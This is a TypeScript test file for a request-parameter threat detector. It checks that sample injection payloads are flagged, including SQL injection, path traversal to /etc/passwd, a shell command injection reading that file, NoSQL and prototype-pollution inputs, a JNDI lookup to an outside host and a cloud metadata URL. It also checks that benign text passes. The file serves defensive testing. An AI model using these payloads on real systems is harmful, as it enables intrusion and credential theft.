import { describe, expect, it } from "vitest";
import type { Site } from "@/lib/engine/site";
import { threatParamsFact } from "./threat-params";

function judged(params: unknown, site: Site = "any") {
  const fact = threatParamsFact(typeof params === "string" ? params : JSON.stringify(params));
  if (fact.state !== "known") throw new Error("parameters are always known");
  return fact.value[site];
}

describe("an attack in parameters", () => {
  it.each([
    [{ id: "1 or 1=1" }, "sql-condition"],
    [{ user: "x' or 'a'='a", password: "x" }, "sql-condition"],
    [{ file: "../../../../etc/passwd" }, "file"],
    [{ name: "<script>alert(1)</script>" }, "html-tag"],
    [{ host: "127.0.0.1; cat /etc/passwd" }, "shell"],
    [{ user: "x", password: { $ne: "" } }, "nosql"],
    [{ "__proto__[x]": 1 }, "prototype"],
    [{ list: [{ q: `$${"{jndi:ldap://x.example/a}"}`, b: 1 }] }, "lookup"],
    [{ a: "x&b=1 union select 1,2--" }, "sql-union"],
    [{ url: "http://169.254.169.254/latest/meta-data" }, "metadata"],
  ])("decides, and is named alone: %j", (params, entry) => {
    const { isDecisive, evidence } = judged(params);
    expect([isDecisive, evidence[0]]).toEqual([true, { source: "gatehouse-threat-params", entry }]);
  });

  it.each([
    { name: "Seán O'Neill", city: "L'Aquila", q: "select a plan" },
    { message: "Hello,\nLocation: Berlin\nls -la shows nothing\r\nid" },
    { message: "Use <script> for that", subject: "union select" },
    { comment: "My query is select * from users where id = 1 -- and it fails" },
    { email: "d'or@bank.example", phone: "+49 (30) 1234-5", company: "Smith & Sons; Ltd." },
    { password: "' or 1=1--", passwordRepeat: "' or 1=1--", pin: "1'--", csrf_token: "a'||b" },
    { user: { name: "ann", password: "' or 1=1--" } },
    { filter: "Name eq 'Milk' and Price lt 2.55", where: "STATUS='Open' OR STATUS='Closed'" },
    { address: "Unit 5/2, 10-12 High St; 3rd floor (rear)", size: "10 x 20" },
    { nothing: null, number: 1.5, yes: true, empty: "", list: [], object: {} },
  ])("is not what people write: %j", (params) => {
    expect(judged(params).isDecisive).toBe(false);
  });

  it("needs two signs in what people write at length", () => {
    expect(judged({ message: "<script>" })).toMatchObject({ isDecisive: false });
    expect(judged({ message: "<script>" }).evidence).toHaveLength(1);
    expect(judged({ message: "<script>alert(1)</script>" }).isDecisive).toBe(true);
    expect(judged({ "post[content]": "<script>alert(1)</script>" }, "developer").isDecisive).toBe(
      false,
    );
  });

  it("is looked for in a bounded part, whatever is sent", () => {
    expect(judged({ a: "x".repeat(9_000), id: "1 or 1=1" }).evidence).toEqual([]);
    expect(judged({ a: "x".repeat(8_000), id: "1 or 1=1" }).isDecisive).toBe(true);
    expect(judged({ id: "1 or 1=1", a: "x".repeat(60_000) }).isDecisive).toBe(true);
    for (const odd of ["", "[", "1", "null", '"1 or 1=1"', "\ud800", "[".repeat(30_000)]) {
      expect(judged(odd).isDecisive).toBe(false);
    }
    expect(judged(`${"[".repeat(20_000)}${"]".repeat(20_000)}`).evidence).toEqual([]);
  });
});
